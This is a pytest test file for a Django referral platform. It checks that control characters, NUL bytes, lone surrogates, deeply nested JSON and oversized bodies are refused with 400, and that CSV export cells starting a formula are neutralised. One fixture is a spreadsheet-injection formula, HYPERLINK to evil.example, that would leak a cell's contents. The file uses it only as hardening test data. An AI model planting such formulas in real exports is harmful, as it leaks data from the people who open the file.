"""Inputs that used to break pages or the server (issue #13, item 9): control characters in
query strings, form and JSON bodies; deeply nested JSON; the consent print of a draft; formula
cells in the coordinators' CSV export. Each answers 400 (or 404), never 500, on SQLite and
PostgreSQL (PostgreSQL is where NUL characters in a query made the database fail)."""

import csv
import io
import json
from types import SimpleNamespace

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from lotse.handover.models import Handover, Status
from lotse.network import inputs
from lotse.network.models import Membership, Organisation
from tests import factories

pytestmark = pytest.mark.django_db

Role = Membership.Role
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"AWO")'


def member(username, role, organisation):
    user = factories.UserFactory(username=username)
    factories.MembershipFactory(user=user, organisation=organisation, role=role)
    return get_user_model().objects.get(pk=user.pk)


@pytest.fixture
def cast(directory):
    county = factories.OrganisationFactory(
        name="Sozialbüro Lahnfeld", kind=Organisation.Kind.COUNTY_DEPARTMENT
    )
    awo = factories.OrganisationFactory(name=FORMULA)
    contact_user = member("rita", Role.CONTACT, awo)
    recipient = factories.PersonFactory(organisation=awo, user=contact_user, name="Rita Roth")
    topic = factories.TopicFactory(name="Schulden")
    awo_page = factories.make_organisation_page(awo)
    offer = factories.make_offer(
        awo_page, topics=[topic], title="Schuldnerberatung", handover_contact=recipient
    )
    return SimpleNamespace(
        county=county,
        awo=awo,
        recipient=recipient,
        offer=offer,
        adviser=member("lea", Role.ADVISER, county),
        coordinator=member("klara", Role.COORDINATOR, county),
        editor=member("redaktion", Role.EDITOR, awo),
    )


def api_for(user):
    client = APIClient()
    client.force_login(user)
    return client


def german(response):
    """The message of a 400 answer, as JSON (APIs) or as the page's text."""
    if response["Content-Type"].startswith("application/json"):
        return json.dumps(response.json(), ensure_ascii=False)
    return response.content.decode()


# Control characters in query strings


PUBLIC_QUERIES = (
    "/api/hsds/organizations?search={}",
    "/api/hsds/services?search={}",
    "/api/hsds/services?taxonomy_term_id={}",
    "/api/v1/search/?q={}",
    "/api/v1/search/suggest/?q={}",
    "/?q={}",
    "/hilfe/?q={}",
)
NASTY = ("a%00b", "a%01b", "%1b%5B31m", "a%7Fb", "a%C2%85b")


@pytest.mark.parametrize("url", PUBLIC_QUERIES)
@pytest.mark.parametrize("value", NASTY)
def test_control_characters_in_a_public_query_answer_400(client, cast, url, value):
    response = client.get(url.format(value))
    assert response.status_code == 400
    assert "Steuerzeichen" in german(response)


def test_control_characters_in_a_parameter_name_or_the_path_answer_400(client, cast):
    assert client.get("/api/hsds/services?a%00b=1").status_code == 400
    assert client.get("/hilfe/a%00b/").status_code == 400
    assert client.get("/api/hsds/services/a%00b").status_code == 400


def test_the_contacts_lookup_refuses_nul_after_login(cast):
    client = api_for(cast.adviser)
    assert client.get("/api/v1/contacts/?q=Rita").status_code == 200
    response = client.get("/api/v1/contacts/?q=a%00b")
    assert response.status_code == 400
    assert "Steuerzeichen" in response.json()["detail"]


def test_ordinary_text_with_umlauts_tabs_and_newlines_passes(client, cast):
    assert client.get("/api/hsds/organizations?search=Sozialb%C3%BCro").status_code == 200
    assert client.get("/api/v1/search/?q=Schulden%09Miete").status_code == 200
    assert client.get("/api/v1/search/?q=%E2%82%AC+%F0%9F%98%80").status_code == 200


# Form bodies


def test_nul_in_a_form_field_answers_400_and_a_newline_does_not(client, cast):
    client.force_login(cast.adviser)
    url = reverse("handovers:consent_preview")
    data = {
        "recipient": cast.recipient.pk,
        "purpose": "Schuldnerberatung\r\nund Wohnung\tsichern",
        "valid_until": (timezone.localdate()).isoformat(),
        "language": "de",
        "data_categories": ["finances"],
    }
    assert client.post(url, data).status_code == 200
    refused = client.post(url, {**data, "purpose": "Schulden\x00beratung"})
    assert refused.status_code == 400
    assert "Steuerzeichen" in refused.content.decode()
    assert client.post(url, {**data, "purpose": "Schulden\x0bberatung"}).status_code == 400


# JSON bodies


def handover_json(cast, **changes):
    body = {
        "recipient": cast.recipient.pk,
        "summary": "Mietschulden seit drei Monaten.",
        "citizen": {"name": "Zarah Quist", "phone": "06441 998877"},
        "consent": {
            "given_at": timezone.now().isoformat(),
            "method": "written",
            "data_categories": ["finances"],
            "purpose": "Schuldnerberatung",
            "valid_until": (timezone.localdate()).isoformat(),
        },
    }
    body.update(changes)
    return json.dumps(body)


@pytest.mark.parametrize("text", ["a\\u0000b", "\\u001b[31m", "a\\u0085b", "\\ud800"])
def test_control_characters_and_lone_surrogates_in_json_answer_400(cast, text):
    client = api_for(cast.adviser)
    body = handover_json(cast).replace("Mietschulden", text)
    response = client.post("/api/v1/handovers/", body, content_type="application/json")
    assert response.status_code == 400
    assert "Steuerzeichen" in response.json()["detail"] or "Unicode" in response.json()["detail"]
    assert not Handover.objects.exists()
    key = handover_json(cast).replace('"summary"', '"sum\\u0000mary"')
    assert client.post("/api/v1/handovers/", key, content_type="application/json").status_code == (
        400
    )


def test_newlines_and_tabs_in_json_text_are_kept(cast):
    client = api_for(cast.adviser)
    body = handover_json(cast, summary="Mietschulden\nseit\tdrei Monaten.\r\n")
    response = client.post("/api/v1/handovers/", body, content_type="application/json")
    assert response.status_code == 201, response.content
    assert Handover.objects.count() == 1


def deep(depth, opening="["):
    return opening * depth


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_deeply_nested_json_answers_400_on_every_logged_in_endpoint(cast, opening):
    draft = factories.make_handover(cast.adviser, cast.recipient, offer=cast.offer)
    body = deep(100_000, opening)
    targets = (
        (cast.adviser, "post", "/api/v1/handovers/"),
        (cast.recipient.user, "post", f"/api/v1/handovers/{draft.pk}/transitions/"),
        (cast.editor, "post", "/api/v1/partner/offers/"),
        (cast.editor, "put", f"/api/v1/partner/offers/{cast.offer.hsds_id}/"),
        (cast.editor, "patch", f"/api/v1/partner/offers/{cast.offer.hsds_id}/"),
    )
    for user, method, url in targets:
        response = getattr(api_for(user), method)(url, body, content_type="application/json")
        assert response.status_code == 400, (url, response.status_code)
        assert "verschachtelt" in response.json()["detail"], url


def test_nesting_up_to_the_limit_is_parsed(settings):
    settings.LOTSE_JSON_MAX_DEPTH = 5
    assert inputs.check_json_depth(b'[[[[{"a": "[[[[[[[[[["}]]]]]') is None
    assert inputs.check_json_depth(b'{"a": "\\"[[[[[[[["}') is None
    with pytest.raises(inputs.InputRefused):
        inputs.check_json_depth(b"[[[[[[]]]]]]")


def test_a_json_body_larger_than_the_upload_limit_answers_400(cast, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 10_000
    client = api_for(cast.adviser)
    body = handover_json(cast, summary="x" * 20_000)
    response = client.post("/api/v1/handovers/", body, content_type="application/json")
    assert response.status_code == 400
    assert not Handover.objects.exists()


# The consent print of a draft


def test_the_consent_print_of_a_draft_answers_404(client, cast):
    client.force_login(cast.adviser)
    saved = client.post(
        reverse("handovers:add"),
        {
            "offer": cast.offer.pk,
            "recipient": cast.recipient.pk,
            "summary": "Mietschulden",
            "citizen_name": "Zarah Quist",
            "save_draft": "1",
        },
    )
    assert saved.status_code == 302
    draft = Handover.objects.get(status=Status.DRAFT)
    assert client.get(reverse("handovers:consent", args=[draft.pk])).status_code == 404
    sent = factories.make_handover(cast.adviser, cast.recipient, offer=cast.offer)
    assert client.get(reverse("handovers:consent", args=[sent.pk])).status_code == 200


# Spreadsheet exports


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+49 6441 1", "'+49 6441 1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("AWO Lahnfeld", "AWO Lahnfeld"),
        ("", ""),
        (42, 42),
    ],
)
def test_spreadsheet_cells_that_start_a_formula_are_neutralised(value, expected):
    assert inputs.spreadsheet_cell(value) == expected


def test_the_handover_export_has_no_formula_cells(cast):
    factories.make_handover(cast.adviser, cast.recipient, offer=cast.offer)
    client = Client()
    client.force_login(cast.coordinator)
    response = client.get(reverse("handovers:export"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert len(rows) == 2
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
